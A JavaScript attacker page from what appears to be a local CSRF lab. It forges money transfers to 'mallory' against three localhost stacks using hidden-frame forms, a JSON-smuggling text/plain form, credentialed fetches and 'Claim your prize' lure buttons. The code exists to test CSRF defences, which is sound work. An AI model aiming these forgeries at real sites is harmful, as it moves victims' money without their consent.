// The CSRF lab's attacker: forged transfers against each stack, one at a time, four ways.
// Opening the page runs them all; `?manual` runs nothing until asked (the browser tests call
// window.csrfLab.run(stack, attack) one by one and read nginx's log in between).

const VICTIM_HOST = 'localhost';
const STACKS = [
  { id: 'sticky', port: 8083 },
  { id: 'redis', port: 8081 },
  { id: 'tokens', port: 8082 },
];
// Hidden-frame and fetch forgeries run by themselves; the top-level ones open a window, which a
// browser only allows after a click (the "Claim your prize" buttons), as a real attacker would lure.
const ATTACKS = [
  { id: 'form-text', amount: '13.01', label: 'form in a hidden frame, enctype="text/plain", JSON-looking body', run: formText },
  { id: 'form-urlencoded', amount: '13.02', label: 'form in a hidden frame, urlencoded (the default)', run: formUrlencoded },
  { id: 'fetch-json', amount: '13.03', label: "fetch, credentials: 'include', Content-Type: application/json", run: fetchJson },
  { id: 'fetch-no-cors', amount: '13.04', label: "fetch, mode: 'no-cors', credentials: 'include', text/plain", run: fetchNoCors },
  { id: 'top-form-text', amount: '13.05', label: 'form in a new window (top level), enctype="text/plain"', run: topFormText, topLevel: true },
  { id: 'top-form-urlencoded', amount: '13.06', label: 'form in a new window (top level), urlencoded', run: topFormUrlencoded, topLevel: true },
];
const FRAME_TIMEOUT_MS = 8000;

const target = stack => `http://${VICTIM_HOST}:${stack.port}/api/transfers`;

function buildForm(stack, enctype, fields, windowName) {
  const form = document.createElement('form');
  form.method = 'POST';
  form.action = target(stack);
  form.enctype = enctype;
  form.target = windowName;
  for (const [key, value] of fields) {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = key;
    input.value = value;
    form.append(input);
  }
  document.getElementById('frames').append(form);
  return form;
}

/** Submits a form into a hidden iframe and waits for whatever comes back to load. */
function submitForm(stack, attack, enctype, fields) {
  const name = `frame-${stack.id}-${attack.id}-${Date.now()}`;
  const iframe = document.createElement('iframe');
  iframe.name = name;
  iframe.title = name;
  document.getElementById('frames').append(iframe);
  const form = buildForm(stack, enctype, fields, name);
  return new Promise(resolve => {
    const timer = setTimeout(() => resolve({ attackerSees: 'nothing: the frame did not load in time' }), FRAME_TIMEOUT_MS);
    iframe.addEventListener('load', () => {
      clearTimeout(timer);
      let readable;
      try {
        readable = iframe.contentDocument ? iframe.contentDocument.body.textContent : null;
      } catch (e) {
        readable = null;
      }
      resolve({
        attackerSees: readable == null
          ? 'the answer loaded in a hidden frame, but it belongs to another origin: unreadable (the request was sent)'
          : `the frame is readable (unexpected): ${readable.slice(0, 120)}`,
      });
    }, { once: true });
    form.submit();
  });
}

/** Submits a form into a new top-level window: the victim's browser navigates there, cross-site. */
async function submitTop(stack, attack, enctype, fields) {
  buildForm(stack, enctype, fields, `window-${stack.id}-${attack.id}-${Date.now()}`).submit();
  return { attackerSees: 'nothing: a new window opened on localhost, another origin (the victim sees the answer there)' };
}

// One field, name + "=" + value: {"to":"mallory","amount":13.01,"pad":"="}
function textFields(attack) {
  return [[`{"to":"mallory","amount":${attack.amount},"pad":"`, '"}']];
}

function urlFields(attack) {
  return [['to', 'mallory'], ['amount', attack.amount]];
}

function formText(stack, attack) {
  return submitForm(stack, attack, 'text/plain', textFields(attack));
}

function formUrlencoded(stack, attack) {
  return submitForm(stack, attack, 'application/x-www-form-urlencoded', urlFields(attack));
}

function topFormText(stack, attack) {
  return submitTop(stack, attack, 'text/plain', textFields(attack));
}

function topFormUrlencoded(stack, attack) {
  return submitTop(stack, attack, 'application/x-www-form-urlencoded', urlFields(attack));
}

async function fetchJson(stack, attack) {
  try {
    const res = await fetch(target(stack), {
      method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
      body: `{"to":"mallory","amount":${attack.amount}}`,
    });
    return { attackerSees: `a readable answer: ${res.status} (the server's CORS allowed this origin)`, status: res.status };
  } catch (e) {
    return { attackerSees: `${e.name}: ${e.message} (the preflight was refused, or the answer's CORS headers were: either way nothing readable)`, error: `${e.name}: ${e.message}` };
  }
}

async function fetchNoCors(stack, attack) {
  try {
    const res = await fetch(target(stack), {
      method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' },
      body: `{"to":"mallory","amount":${attack.amount}}`,
    });
    return { attackerSees: `an opaque answer (type ${res.type}, status ${res.status}): sent, but the result is invisible to this page` };
  } catch (e) {
    return { attackerSees: `${e.name}: ${e.message}`, error: `${e.name}: ${e.message}` };
  }
}

function cell(stackId, attackId) {
  return document.querySelector(`td[data-stack="${stackId}"][data-attack="${attackId}"]`);
}

/** One attack against one stack; resolves when the browser is done with it. */
async function run(stackId, attackId) {
  const stack = STACKS.find(s => s.id === stackId);
  const attack = ATTACKS.find(a => a.id === attackId);
  const td = cell(stackId, attackId);
  td.textContent = 'running…';
  const result = await attack.run(stack, attack);
  td.textContent = result.attackerSees;
  td.dataset.outcome = result.error ? 'blocked' : 'sent';
  return { stack: stackId, attack: attackId, amount: attack.amount, ...result };
}

async function runAll() {
  const progress = document.getElementById('progress');
  document.body.dataset.state = 'running';
  const results = [];
  for (const stack of STACKS) {
    for (const attack of ATTACKS.filter(a => !a.topLevel)) {
      progress.textContent = `attacking ${stack.id} with ${attack.id}…`;
      results.push(await run(stack.id, attack.id));
    }
  }
  progress.textContent = `done: ${results.length} attempts. Now try the buttons, then look at the transfer lists on the dashboard.`;
  document.body.dataset.state = 'done';
  return results;
}

function init() {
  const tbody = document.getElementById('results');
  for (const attack of ATTACKS) {
    const tr = document.createElement('tr');
    const th = document.createElement('th');
    th.scope = 'row';
    th.textContent = `${attack.label} (${attack.amount})`;
    tr.append(th);
    for (const stack of STACKS) {
      const td = document.createElement('td');
      td.dataset.stack = stack.id;
      td.dataset.attack = attack.id;
      if (attack.topLevel) {
        const button = document.createElement('button');
        button.type = 'button';
        button.textContent = `Claim your prize (${stack.id})`;
        // The click is the user activation a browser wants before it opens a window.
        button.addEventListener('click', () => run(stack.id, attack.id));
        td.append(button);
      } else {
        td.textContent = 'not run';
      }
      tr.append(td);
    }
    tbody.append(tr);
  }
  if (location.hostname === VICTIM_HOST) {
    const warning = document.getElementById('site-warning');
    warning.hidden = false;
    warning.textContent = 'You opened this page on localhost: that is the same site as the lab, so SameSite protects ' +
      'nothing here. Open it as http://127.0.0.1:8090/ to be a real cross-site attacker.';
  }
  document.getElementById('run').addEventListener('click', runAll);
  window.csrfLab = { run, runAll, stacks: STACKS.map(s => s.id), attacks: ATTACKS.map(a => a.id) };
  document.body.dataset.state = 'ready';
  if (!new URLSearchParams(location.search).has('manual')) runAll();
}

init();
